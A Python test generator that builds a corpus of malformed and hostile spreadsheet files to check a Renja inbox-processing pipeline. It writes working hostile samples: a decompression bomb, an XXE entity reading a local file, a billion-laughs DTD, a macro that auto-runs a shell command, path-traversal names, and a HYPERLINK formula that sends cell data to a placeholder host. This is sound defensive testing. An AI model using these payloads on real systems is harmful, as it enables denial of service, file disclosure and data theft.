"""A corpus of broken and hostile inbox files: one function per case, a registry, deterministic bytes.

``python tests/make_bad_files.py --out DIR`` writes the whole corpus into DIR laid out as an inbox
(some cases sit in subfolders). Each case says what the pipeline must make of it: the status the
run gives it and the finding codes it must report. Cases built from a filled template use their
own OPD name, so the accepted ones all reach the consolidated workbook side by side.

Nothing here needs a package beyond the project's own: the encrypted workbook is an OLE compound
file written by hand, and the decompression bomb is written piece by piece without ever holding
its 500 MB (see ``decompression_bomb``).
"""

from __future__ import annotations

import argparse
import re
import struct
import sys
import tempfile
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from datetime import datetime
from pathlib import Path
from typing import Any
from xml.sax.saxutils import escape

HERE = Path(__file__).resolve().parent
if str(HERE) not in sys.path:
    sys.path.insert(0, str(HERE))

import openpyxl  # noqa: E402

import make_fixtures  # noqa: E402

PEMDA = make_fixtures.PASURUAN
TAHUN = 2024
FIXED_DATE = (2024, 1, 2, 3, 4, 6)
_STAMP = re.compile(rb"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d(?:\.\d+)?Z")

# Text an OPD could type that a careless writer would turn into a live formula or link.
INJECTIONS = ('=HYPERLINK("http://x","klik")', "@SUM(A1)", "+62", "-1+1")
# Names with control characters (written as Excel writes them, _xHHHH_), emoji and right-to-left text.
ODD_NAME = "Pelayanan \U0001F680 Publik \u200f\u0645\u0631\u062d\u0628\u0627 \u05e9\u05dc\u05d5\u05dd\u200e"
ODD_CONTROL = "Bel\x07 dan Esc\x1b"  # what calamine returns for _x0007_ / _x001B_
ODD_INDICATOR = "Indeks \u0627\u0644\u062e\u062f\u0645\u0629 \U0001F468\u200d\U0001F469\u200d\U0001F467 (ke\u0301puasan)"


@dataclass(frozen=True)
class BadCase:
    """One corpus file: where it sits in the inbox, how it is made, what the run must make of it."""

    name: str
    path: str  # relative to the inbox, "/" separated
    make: Callable[[Path], Any]
    status: str  # accepted / rejected / ignored
    codes: tuple[str, ...] = ()  # finding codes that must be reported
    about: str = ""


# --- building blocks ---------------------------------------------------------------------------

def valid_rows() -> list[dict[str, Any]]:
    """A small valid Renja tree (the Bappeda rows of make_fixtures), copied so cases can change it."""
    return [dict(r) for r in make_fixtures.BAPPEDA_ROWS]


def with_warning(rows: list[dict[str, Any]]) -> list[dict[str, Any]]:
    """The rows with one warning at a cell (a target of 150 %), so the feedback marks up the OPD's
    own workbook instead of sending the findings list alone."""
    first = next(r for r in rows if r.get("satuan") == "%")
    first["target"] = 150
    return rows


def tree_rows(programs: int, kegiatan: int, subs: int, *, bidang: str = "5.01") -> list[dict[str, Any]]:
    """A valid program / kegiatan / sub kegiatan tree whose pagu add up at every level."""
    rows: list[dict[str, Any]] = [{"kode": bidang, "nama": "BIDANG PERENCANAAN"}]
    for p in range(1, programs + 1):
        pk = f"{bidang}.{p:02d}"
        program: dict[str, Any] = _row(pk, f"Program Uji {p}", 0)
        rows.append(program)
        for k in range(1, kegiatan + 1):
            kk = f"{pk}.2.{k:02d}"
            keg: dict[str, Any] = _row(kk, f"Kegiatan Uji {p}.{k}", 0)
            rows.append(keg)
            for s in range(1, subs + 1):
                pagu = 1_000_000 * (p * 100 + k * 10 + s)
                rows.append(_row(f"{kk}.{s:04d}", f"Sub Kegiatan Uji {p}.{k}.{s}", pagu))
                keg["pagu"] += pagu
                keg["pagu_maju"] += pagu + 1000
            program["pagu"] += keg["pagu"]
            program["pagu_maju"] += keg["pagu_maju"]
    return rows


def _row(kode: str, nama: str, pagu: int) -> dict[str, Any]:
    return {"kode": kode, "nama": nama, "indikator": f"Jumlah dokumen {nama.lower()}", "target": 2,
            "satuan": "Dokumen", "lokasi": "Kab. Pasuruan", "pagu": pagu, "sumber_dana": "APBD",
            "target_maju": 2, "satuan_maju": "Dokumen", "pagu_maju": pagu + 1000 if pagu else 0}


_OPD_PLACEHOLDER = "Dinas Placeholder Korpus"
_FILLED: dict[str, bytes] = {}  # rows -> a filled template for the placeholder OPD (filling is slow)


def filled(path: Path, rows: list[dict[str, Any]], opd: str, *,
           tweak: Callable[[openpyxl.Workbook], None] | None = None,
           edit: Callable[[str, bytes], bytes | None] | None = None,
           add: dict[str, bytes] | None = None) -> Path:
    """A filled official template for ``opd``, optionally changed with openpyxl (``tweak``) and then
    member by member (``edit``, ``add``), written with fixed timestamps so the bytes never vary."""
    key = repr(rows)
    with tempfile.TemporaryDirectory() as tmp:
        raw = Path(tmp) / "raw.xlsx"
        if key not in _FILLED:
            make_fixtures.fill_template(raw, rows, tahun=TAHUN, pemda=PEMDA, opd=_OPD_PLACEHOLDER)
            _FILLED[key] = raw.read_bytes()
        raw.write_bytes(_FILLED[key])
        own = Path(tmp) / "own.xlsx"
        placeholder, name = _OPD_PLACEHOLDER.encode(), escape(" ".join(opd.split())).encode()
        rezip(raw, own, edit=lambda _, data: data.replace(placeholder, name))
        if tweak is not None:
            wb = openpyxl.load_workbook(own)
            tweak(wb)
            wb.save(own)
        rezip(own, path, edit=edit, add=add)
    return path


def rezip(src: Path, dst: Path, *, edit: Callable[[str, bytes], bytes | None] | None = None,
          add: dict[str, bytes] | None = None) -> Path:
    """Copy the zip ``src`` to ``dst`` member by member: ``edit`` may change or drop (None) a member,
    ``add`` appends members; timestamps inside and on the members are fixed."""
    with zipfile.ZipFile(src) as zin:
        members = [(i.filename, zin.read(i.filename)) for i in zin.infolist()]
    out: list[tuple[str, bytes]] = []
    for name, data in members:
        if name.endswith((".xml", ".rels")):
            data = _STAMP.sub(b"2024-01-02T03:04:06Z", data)
        changed = edit(name, data) if edit else data
        if changed is not None:
            out.append((name, changed))
    out.extend((add or {}).items())
    dst.parent.mkdir(parents=True, exist_ok=True)
    with zipfile.ZipFile(dst, "w") as zout:
        for name, data in out:
            zout.writestr(_info(name), data)
    return dst


def _info(name: str, compress: int = zipfile.ZIP_DEFLATED) -> zipfile.ZipInfo:
    info = zipfile.ZipInfo(name, FIXED_DATE)
    info.compress_type = compress
    info.external_attr = 0o600 << 16
    return info


def cfb(streams: dict[str, bytes]) -> bytes:
    """A minimal OLE compound file (CFB v3, 512-byte sectors) holding ``streams`` under the root.

    Streams are padded to at least 4096 bytes so they live in regular sectors (no mini stream).
    Layout: sector 0 = FAT, sector 1 = directory, then the streams one after another.
    """
    endchain, freesect, fatsect, nostream = 0xFFFFFFFE, 0xFFFFFFFF, 0xFFFFFFFD, 0xFFFFFFFF
    datas = [(name, data.ljust(4096, b"\0")) for name, data in streams.items()]
    assert len(datas) <= 3, "one directory sector holds the root and three streams"
    fat = [fatsect, endchain]
    starts = []
    for _, data in datas:
        n = -(-len(data) // 512)
        first = len(fat)
        starts.append(first)
        fat.extend(first + i + 1 for i in range(n - 1))
        fat.append(endchain)
    assert len(fat) <= 128
    fat.extend([freesect] * (128 - len(fat)))

    def entry(name: str, kind: int, start: int, size: int, child: int = nostream, right: int = nostream) -> bytes:
        encoded = (name.encode("utf-16-le") + b"\0\0") if name else b""
        e = bytearray(128)
        e[0:len(encoded)] = encoded
        struct.pack_into("<HBBIII", e, 64, len(encoded), kind, 1, nostream, right, child)
        struct.pack_into("<IQ", e, 116, start, size)
        return bytes(e)

    # CFB orders siblings by name length first: the shorter name is the tree's root, the next its right.
    order = sorted(range(len(datas)), key=lambda i: (len(datas[i][0]), datas[i][0].upper()))
    directory = bytearray(entry("Root Entry", 5, endchain, 0, child=order[0] + 1 if order else nostream))
    for i, (name, data) in enumerate(datas):
        pos = order.index(i)
        right = order[pos + 1] + 1 if pos + 1 < len(order) else nostream
        directory += entry(name, 2, starts[i], len(data), right=right)
    directory = directory.ljust(512, b"\0")
    header = bytearray(512)
    header[0:8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    struct.pack_into("<HHHHH", header, 24, 0x3E, 3, 0xFFFE, 9, 6)
    struct.pack_into("<IIIIIIIII", header, 40, 0, 1, 1, 0, 4096, endchain, 0, endchain, 0)
    difat = [0] + [freesect] * 108
    struct.pack_into("<109I", header, 76, *difat)
    body = struct.pack("<128I", *fat) + bytes(directory) + b"".join(d for _, d in datas)
    return bytes(header) + body


# --- the cases ---------------------------------------------------------------------------------

def zero_bytes(path: Path) -> None:
    path.write_bytes(b"")


def truncated_zip(path: Path, opd: str = "Dinas Uji Terpotong") -> None:
    with tempfile.TemporaryDirectory() as tmp:
        whole = filled(Path(tmp) / "whole.xlsx", valid_rows(), opd).read_bytes()
    path.write_bytes(whole[: len(whole) // 2])


def not_a_zip(path: Path) -> None:
    # What a webmail "download" often saves under the attachment's name: an HTML error page.
    # The page names the file so that every case has its own bytes (same bytes = a duplicate).
    path.write_bytes(b"<!DOCTYPE html><html><head><title>Sesi berakhir</title></head><body>Silakan login "
                     b"kembali untuk mengunduh " + path.name.encode() + b".</body></html>\n")


def encrypted(path: Path) -> None:
    """An Excel "Encrypt with Password" file: OLE container with EncryptionInfo + EncryptedPackage."""
    info = struct.pack("<HHI", 4, 4, 0x40) + (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n'
        b'<encryption xmlns="http://schemas.microsoft.com/office/2006/encryption">'
        b'<keyData saltSize="16" blockSize="16" keyBits="256" hashSize="64" cipherAlgorithm="AES" '
        b'cipherChaining="ChainingModeCBC" hashAlgorithm="SHA512" saltValue="AAAAAAAAAAAAAAAAAAAAAA=="/>'
        b"</encryption>")
    package = struct.pack("<Q", 8192) + bytes((i * 73 + 11) % 256 for i in range(8192))
    path.write_bytes(cfb({"EncryptionInfo": info, "EncryptedPackage": package}))


def broken_xls(path: Path) -> None:
    path.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes((i * 31 + 7) % 256 for i in range(4096)))


def with_macros(path: Path) -> None:
    """A real macro workbook: vbaProject.bin part, its relationship and the macro content types."""
    vba = cfb({"PROJECT": b'ID="{00000000-0000-0000-0000-000000000000}"\r\nDocument=ThisWorkbook/&H00000000\r\n',
               "VBA": b"Attribute VB_Name = \"Module1\"\r\nSub Auto_Open()\r\n  Shell \"calc.exe\"\r\nEnd Sub\r\n"})

    def edit(name: str, data: bytes) -> bytes:
        if name == "[Content_Types].xml":
            data = data.replace(b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
                                b"application/vnd.ms-excel.sheet.macroEnabled.main+xml")
            data = data.replace(b"<Default Extension=\"xml\"",
                                b"<Default Extension=\"bin\" ContentType=\"application/vnd.ms-office.vbaProject\" />"
                                b"<Default Extension=\"xml\"")
        if name == "xl/_rels/workbook.xml.rels":
            data = data.replace(b"</Relationships>", b'<Relationship Id="rIdVba" Type="http://schemas.microsoft.com/'
                                b'office/2006/relationships/vbaProject" Target="vbaProject.bin" /></Relationships>')
        return data

    filled(path, valid_rows(), "Dinas Uji Makro", edit=edit, add={"xl/vbaProject.bin": vba})


def xlsb(path: Path) -> None:
    with zipfile.ZipFile(path, "w") as z:
        z.writestr(_info("[Content_Types].xml"), b'<?xml version="1.0"?><Types xmlns="http://schemas.openxml'
                   b'formats.org/package/2006/content-types"><Override PartName="/xl/workbook.bin" ContentType='
                   b'"application/vnd.ms-excel.sheet.binary.macroEnabled.main"/></Types>')
        z.writestr(_info("xl/workbook.bin"), bytes(range(256)) * 4)
        z.writestr(_info("xl/worksheets/sheet1.bin"), bytes(range(256)) * 16)


_CT = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Types xmlns="http://schemas.openxmlformats.org/'
       b'package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
       b'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/'
       b'workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
       b'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.'
       b'spreadsheetml.worksheet+xml"/></Types>')
_RELS = (b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
         b'2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
         b'relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>')
_WB = (b'<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/'
       b'2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets>'
       b'<sheet name="Renja" sheetId="1" r:id="rId1"/></sheets></workbook>')
_WB_RELS = (b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
            b'2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/'
            b'2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>')
_SHEET_HEAD = b'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'


def _bare_workbook(path: Path, sheet: bytes | Callable[[zipfile.ZipFile], None]) -> None:
    """A one-sheet xlsx written from scratch; ``sheet`` is the sheet XML or writes it itself."""
    with zipfile.ZipFile(path, "w") as z:
        for name, data in (("[Content_Types].xml", _CT), ("_rels/.rels", _RELS), ("xl/workbook.xml", _WB),
                           ("xl/_rels/workbook.xml.rels", _WB_RELS)):
            z.writestr(_info(name), data)
        if isinstance(sheet, bytes):
            z.writestr(_info("xl/worksheets/sheet1.xml"), sheet)
        else:
            sheet(z)


BOMB_MB = 504
BOMB_ROW = b"<row><c><v>1</v></c></row>"


def decompression_bomb(path: Path) -> None:
    """About 500 MB of repeated rows in one sheet, deflated to about 1.2 MB, never held in memory.

    An 8 MB block of rows is deflated once and ended with a full flush, which resets the
    compressor: the same compressed bytes then stand for every further copy of the block, so the
    member is written as that piece repeated (and its CRC computed block by block).
    """
    block = BOMB_ROW * ((8 << 20) // len(BOMB_ROW))
    head, tail = _SHEET_HEAD + b"<sheetData>", b"</sheetData></worksheet>"
    comp = zlib.compressobj(9, zlib.DEFLATED, -15)
    start = comp.compress(head) + comp.flush(zlib.Z_FULL_FLUSH)
    piece = comp.compress(block) + comp.flush(zlib.Z_FULL_FLUSH)
    end = comp.compress(tail) + comp.flush(zlib.Z_FINISH)
    copies = (BOMB_MB << 20) // len(block)
    crc = zlib.crc32(head)
    for _ in range(copies):
        crc = zlib.crc32(block, crc)
    crc = zlib.crc32(tail, crc)
    size = len(head) + copies * len(block) + len(tail)
    small = [(name, data) for name, data in (("[Content_Types].xml", _CT), ("_rels/.rels", _RELS),
                                               ("xl/workbook.xml", _WB), ("xl/_rels/workbook.xml.rels", _WB_RELS))]
    with open(path, "wb") as fh:
        central = b""
        for name, data in small:
            c = zlib.compressobj(9, zlib.DEFLATED, -15)
            packed = c.compress(data) + c.flush()
            central += _zip_entry(fh, name, zlib.crc32(data), len(packed), len(data), [packed])
        central += _zip_entry(fh, "xl/worksheets/sheet1.xml", crc,
                              len(start) + copies * len(piece) + len(end), size,
                              [start, *([piece] * copies), end])
        offset = fh.tell()
        fh.write(central)
        fh.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(small) + 1, len(small) + 1, len(central), offset, 0))


def _zip_entry(fh: Any, name: str, crc: int, csize: int, usize: int, pieces: list[bytes]) -> bytes:
    """Write one deflated member (local header + data); return its central directory record."""
    offset = fh.tell()
    raw = name.encode()
    dos_time = (FIXED_DATE[3] << 11) | (FIXED_DATE[4] << 5) | (FIXED_DATE[5] // 2)
    dos_date = ((FIXED_DATE[0] - 1980) << 9) | (FIXED_DATE[1] << 5) | FIXED_DATE[2]
    fh.write(struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, dos_time, dos_date, crc, csize, usize, len(raw), 0))
    fh.write(raw)
    for piece in pieces:
        fh.write(piece)
    return struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, dos_time, dos_date, crc, csize, usize,
                       len(raw), 0, 0, 0, 0, 0o600 << 16, offset) + raw


def bomb_lying_sizes(path: Path) -> None:
    """20 MB of rows whose zip headers claim 2,000 bytes: the declared sizes cannot be trusted."""
    chunk = BOMB_ROW * ((1 << 20) // len(BOMB_ROW))  # 20 MB in memory: fine for a generator
    body = _SHEET_HEAD + b"<sheetData>" + chunk * 20 + b"</sheetData></worksheet>"
    _bare_workbook(path, body)
    data = bytearray(path.read_bytes())
    with zipfile.ZipFile(path) as z:
        info = z.getinfo("xl/worksheets/sheet1.xml")
        central = z.start_dir  # type: ignore[attr-defined]
    struct.pack_into("<I", data, info.header_offset + 22, 2000)  # local header: uncompressed size
    i = data.find(b"PK\x01\x02", central)
    while i != -1:
        n = struct.unpack_from("<H", data, i + 28)[0]
        if bytes(data[i + 46:i + 46 + n]) == b"xl/worksheets/sheet1.xml":
            struct.pack_into("<I", data, i + 24, 2000)  # central directory: uncompressed size
        i = data.find(b"PK\x01\x02", i + 46)
    path.write_bytes(bytes(data))


def million_rows(path: Path) -> None:
    """A sheet claiming every row and column Excel has, with a cell at the very last one."""
    _bare_workbook(path, _SHEET_HEAD + b'<dimension ref="A1:XFD1048576"/><sheetData>'
                   b'<row r="1"><c r="A1" t="inlineStr"><is><t>Renja</t></is></c></row>'
                   b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData></worksheet>')


WRONG_DIMENSION_ROWS = (4, 8, 8)  # programs, kegiatan per program, sub kegiatan per kegiatan: rows 8..300


def wrong_dimension(path: Path) -> None:
    """Data down to row 300 under a <dimension ref="A1:A1"/> tag (openpyxl read-only trusts it)."""
    def edit(name: str, data: bytes) -> bytes:
        if name == "xl/worksheets/sheet2.xml":
            data = re.sub(rb'<dimension ref="[^"]*"\s*/>', b'<dimension ref="A1:A1"/>', data)
        return data

    filled(path, tree_rows(*WRONG_DIMENSION_ROWS), "Dinas Uji Dimensi", edit=edit)


def external_links(path: Path) -> None:
    """A workbook linked to another one on the OPD's PC (xl/externalLinks part + a linked formula)."""
    link = (b'<?xml version="1.0" encoding="UTF-8"?><externalLink xmlns="http://schemas.openxmlformats.org/'
            b'spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
            b'<externalBook r:id="rId1"><sheetNames><sheetName val="Pagu"/></sheetNames><sheetDataSet>'
            b'<sheetData sheetId="0"><row r="1"><cell r="A1"><v>7</v></cell></row></sheetData></sheetDataSet>'
            b"</externalBook></externalLink>")
    link_rels = (b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/'
                 b'package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
                 b'officeDocument/2006/relationships/externalLinkPath" Target="file:///C:/Users/opd/Documents/'
                 b'Pagu%202024.xlsx" TargetMode="External"/></Relationships>')

    def edit(name: str, data: bytes) -> bytes:
        if name == "[Content_Types].xml":
            data = data.replace(b"</Types>", b'<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType='
                                b'"application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/>'
                                b"</Types>")
        elif name == "xl/_rels/workbook.xml.rels":
            data = data.replace(b"</Relationships>", b'<Relationship Id="rIdExt1" Type="http://schemas.openxml'
                                b'formats.org/officeDocument/2006/relationships/externalLink" Target="externalLinks/'
                                b'externalLink1.xml" /></Relationships>')
        elif name == "xl/workbook.xml":
            data = data.replace(b"</sheets>", b'</sheets><externalReferences><externalReference xmlns:r="http://'
                                b'schemas.openxmlformats.org/officeDocument/2006/relationships" r:id="rIdExt1"/>'
                                b"</externalReferences>")
        elif name == "xl/worksheets/sheet2.xml":
            # a cell outside the table that takes its value from the other workbook (value cached)
            data = data.replace(b"</row>", b'<c r="Z8"><f>[1]Pagu!A1</f><v>7</v></c></row>', 1)
        return data

    filled(path, with_warning(valid_rows()), "Dinas Uji Tautan", edit=edit,
           add={"xl/externalLinks/externalLink1.xml": link,
                "xl/externalLinks/_rels/externalLink1.xml.rels": link_rels})


def _sub_rows(rows: list[dict[str, Any]]) -> list[int]:
    return [i for i, r in enumerate(rows) if str(r.get("kode", "")).count(".") == 5]


def formulas_without_values(path: Path) -> None:
    rows = valid_rows()
    first = _sub_rows(rows)[0]
    rows[first]["pagu"] = "=50000000*2"  # openpyxl saves a formula with no cached value, like some tools do
    filled(path, rows, "Dinas Uji Rumus")


def error_cells(path: Path) -> None:
    rows = valid_rows()
    subs = _sub_rows(rows)
    rows[subs[0]]["pagu"] = "#N/A"  # openpyxl writes these as error cells (t="e")
    rows[subs[1]]["pagu_maju"] = "#REF!"
    filled(path, rows, "Dinas Uji Galat")


def date_as_pagu(path: Path) -> None:
    rows = valid_rows()
    rows[_sub_rows(rows)[0]]["pagu"] = datetime(2024, 1, 5)
    filled(path, rows, "Dinas Uji Tanggal")


HUGE_CELL_CHARS = 10 * 1024 * 1024
_PLACEHOLDER = "ISI-SEL-RAKSASA"


_WORDS = ("penyediaan", "jasa", "komunikasi", "sumber", "daya", "air", "listrik", "peralatan", "kantor",
          "dokumen", "laporan", "kegiatan", "program", "daerah", "perangkat", "pelayanan", "umum", "rapat")


def varied_text(length: int, seed: int = 20240101) -> str:
    """Words picked by a fixed linear congruential sequence: long, deterministic, and not so
    repetitive that it compresses like a bomb (about 3:1, as real text does). A 64 KB block is
    repeated beyond that: deflate looks back only 32 KB, so the repetition does not help it."""
    if length > 1 << 16:
        block = varied_text(1 << 16, seed) + " "
        return (block * (length // len(block) + 1))[:length]
    words, n, state = [], 0, seed
    while n < length:
        state = (state * 6364136223846793005 + 1442695040888963407) % 2**64
        word = _WORDS[(state >> 33) % len(_WORDS)] + str((state >> 20) % 1000)
        words.append(word)
        n += len(word) + 1
    return " ".join(words)[:length]


def _with_shared_string(path: Path, rows: list[dict[str, Any]], opd: str, sst: bytes) -> None:
    """A filled template whose ``_PLACEHOLDER`` name cell points at string 0 of the given shared-strings part."""

    def edit(name: str, data: bytes) -> bytes:
        if name == "[Content_Types].xml":
            data = data.replace(b"</Types>", b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/'
                                b'vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>')
        elif name == "xl/_rels/workbook.xml.rels":
            data = data.replace(b"</Relationships>", b'<Relationship Id="rIdSst" Type="http://schemas.openxml'
                                b'formats.org/officeDocument/2006/relationships/sharedStrings" Target="sharedStrings'
                                b'.xml" /></Relationships>')
        elif name == "xl/worksheets/sheet2.xml":
            data = re.sub(rb'(<c r="B\d+"[^>]*?) t="inlineStr"><is><t>' + _PLACEHOLDER.encode() + rb"</t></is></c>",
                          rb'\1 t="s"><v>0</v></c>', data)
        return data

    filled(path, rows, opd, edit=edit, add={"xl/sharedStrings.xml": sst})


def huge_cell(path: Path) -> None:
    """A 10 MB shared string in a name cell: Excel cannot make it (32,767 characters at most)."""
    rows = valid_rows()
    rows[_sub_rows(rows)[0]]["nama"] = _PLACEHOLDER
    text = varied_text(HUGE_CELL_CHARS)
    sst = (b'<?xml version="1.0" encoding="UTF-8"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/'
           b'2006/main" count="1" uniqueCount="1"><si><t>' + text.encode() + b"</t></si></sst>")

    _with_shared_string(path, rows, "Dinas Uji Sel Besar", sst)


def odd_text(path: Path) -> None:
    """Control characters (as Excel escapes them), emoji and right-to-left text in names: valid data."""
    rows = with_warning(valid_rows())
    subs = _sub_rows(rows)
    rows[subs[0]]["nama"] = ODD_NAME
    rows[subs[1]]["nama"] = "CTRL-PLACEHOLDER"
    rows[subs[1]]["indikator"] = ODD_INDICATOR

    def edit(name: str, data: bytes) -> bytes:
        if name == "xl/worksheets/sheet2.xml":
            data = data.replace(b"CTRL-PLACEHOLDER", b"Bel_x0007_ dan Esc_x001B_")
        return data

    filled(path, rows, "Dinas Uji Teks \u0639\u0631\u0628\u064a \U0001F30F", edit=edit)


INJECTION_SHEET = "Renja 'OPD' \"2024\""


def formula_like_text(path: Path) -> None:
    """Text that looks like formulas in nama / indikator / catatan, a real external HYPERLINK formula
    outside the table, a link on a cell, and the data sheet renamed with quotes."""
    rows = with_warning(valid_rows())
    subs = _sub_rows(rows)
    fields = ("nama", "indikator", "catatan")
    for n in range(len(INJECTIONS)):
        rows[subs[n % len(subs)]][fields[n % 3]] = f"__INJ{n}__"

    def tweak(wb: openpyxl.Workbook) -> None:
        ws = wb["Renja"]
        for row in ws.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and cell.value.startswith("__INJ"):
                    cell.value = INJECTIONS[int(cell.value[5:-2])]
                    cell.data_type = "s"  # typed as text (the OPD wrote a leading apostrophe)
        ws["Z9"] = '=HYPERLINK("http://contoh.invalid/curi?d="&B9,"klik")'
        ws["Z10"] = "situs"
        ws["Z10"].hyperlink = "http://contoh.invalid/"
        ws.title = INJECTION_SHEET
        meta = wb["_meta"]
        for row in meta.iter_rows():
            if row[0].value == "sheet":
                row[1].value = INJECTION_SHEET

    filled(path, rows, "Dinas Uji Injeksi", tweak=tweak)


def traversal_name(path: Path) -> None:
    filled(path, valid_rows(), "Dinas Uji Nama Berkas")


ESCAPE_DIR = "/tmp/bappeda-keluar"  # where a path taken from inside a file would lead


def opd_path_traversal(path: Path) -> None:
    """Valid data whose OPD name (from inside the file) is a path out of every output folder."""
    filled(path, valid_rows(), "../../../../.." + ESCAPE_DIR + "/..\\..\\Dinas Uji Jalur")


def nested_folder(path: Path) -> None:
    not_a_zip(path)


def long_unicode_name(path: Path) -> None:
    not_a_zip(path)


def same_name_valid(path: Path) -> None:
    filled(path, valid_rows(), "Dinas Uji Nama Sama")


def same_name_broken(path: Path) -> None:
    truncated_zip(path, "Dinas Uji Nama Sama B")


def temp_download(path: Path) -> None:
    filled(path, valid_rows(), "Dinas Uji Unduhan")


def renamed_as_xls(path: Path) -> None:
    """A valid .xlsx that the OPD renamed to .xls: the content decides, not the name."""
    filled(path, valid_rows(), "Dinas Uji Ganti Nama")


XXE_CANARY_FILE = "/tmp/bappeda-xxe-canary.txt"  # a test writes a secret here; no output may contain it


def xxe(path: Path) -> None:
    """A shared string that is an external entity pointing at a local file (XXE)."""
    rows = valid_rows()
    rows[_sub_rows(rows)[0]]["nama"] = _PLACEHOLDER
    sst = (b'<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE sst [<!ENTITY xxe SYSTEM "file://'
           + XXE_CANARY_FILE.encode() + b'">]>'
           b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" uniqueCount="1">'
           b"<si><t>&xxe;</t></si></sst>")

    _with_shared_string(path, rows, "Dinas Uji Entitas", sst)


def billion_laughs(path: Path) -> None:
    """workbook.xml with nested entities that would expand to gigabytes."""
    lol = b"".join(b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1)) * 10) for i in range(1, 10))
    dtd = b'<!DOCTYPE workbook [<!ENTITY lol0 "lol">' + lol + b"]>"

    def edit(name: str, data: bytes) -> bytes:
        if name == "xl/workbook.xml":
            data = data.replace(b"<workbook ", dtd + b"<workbook ", 1).replace(
                b'name="Petunjuk"', b'name="&lol9;"')
        return data

    filled(path, valid_rows(), "Dinas Uji Entitas Bersarang", edit=edit)


def duplicate_members(path: Path) -> None:
    """The data sheet twice under one name: readers disagree about which copy counts."""
    with tempfile.TemporaryDirectory() as tmp:
        base = filled(Path(tmp) / "base.xlsx", valid_rows(), "Dinas Uji Bagian Ganda")
        with zipfile.ZipFile(base) as z:
            extra = z.read("xl/worksheets/sheet2.xml").replace(b"Penyediaan Gaji", b"Penyediaan Gaji Palsu")
        rezip(base, path)
    with zipfile.ZipFile(path, "a") as z, _quiet():
        z.writestr(_info("xl/worksheets/sheet2.xml"), extra)


def ods_repeat_bomb(path: Path) -> None:
    """An .ods whose one cell repeats over every row and 10,000 columns (calamine would allocate it)."""
    content = (b'<?xml version="1.0" encoding="UTF-8"?><office:document-content xmlns:office="urn:oasis:names:tc:'
               b'opendocument:xmlns:office:1.0" xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
               b'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.2"><office:body>'
               b'<office:spreadsheet><table:table table:name="Renja"><table:table-row table:number-rows-repeated='
               b'"9000"><table:table-cell office:value-type="float" office:value="1" table:number-columns-repeated='
               b'"10000"><text:p>1</text:p></table:table-cell></table:table-row></table:table></office:spreadsheet>'
               b"</office:body></office:document-content>")
    manifest = (b'<?xml version="1.0" encoding="UTF-8"?><manifest:manifest xmlns:manifest="urn:oasis:names:tc:'
                b'opendocument:xmlns:manifest:1.0" manifest:version="1.2"><manifest:file-entry manifest:full-path="/" '
                b'manifest:media-type="application/vnd.oasis.opendocument.spreadsheet"/><manifest:file-entry '
                b'manifest:full-path="content.xml" manifest:media-type="text/xml"/></manifest:manifest>')
    with zipfile.ZipFile(path, "w") as z:
        z.writestr(_info("mimetype", zipfile.ZIP_STORED), b"application/vnd.oasis.opendocument.spreadsheet")
        z.writestr(_info("content.xml"), content)
        z.writestr(_info("META-INF/manifest.xml"), manifest)


class _quiet:
    """Silence zipfile's "Duplicate name" warning: the duplicate is the point."""

    def __enter__(self) -> None:
        import warnings

        self._ctx = warnings.catch_warnings()
        self._ctx.__enter__()
        warnings.simplefilter("ignore")

    def __exit__(self, *exc: object) -> None:
        self._ctx.__exit__(*exc)


LONG_NAME = "\u540d" * 80 + ".xlsx"  # 245 bytes in UTF-8: a kept name must stay under 255

CASES: dict[str, BadCase] = {c.name: c for c in [
    BadCase("zero-bytes", "kosong.xlsx", zero_bytes, "rejected", ("file-empty",)),
    BadCase("truncated-zip", "terpotong.xlsx", truncated_zip, "rejected", ("file-unreadable",)),
    BadCase("not-a-zip", "bukan zip.xlsx", not_a_zip, "rejected", ("file-unreadable",)),
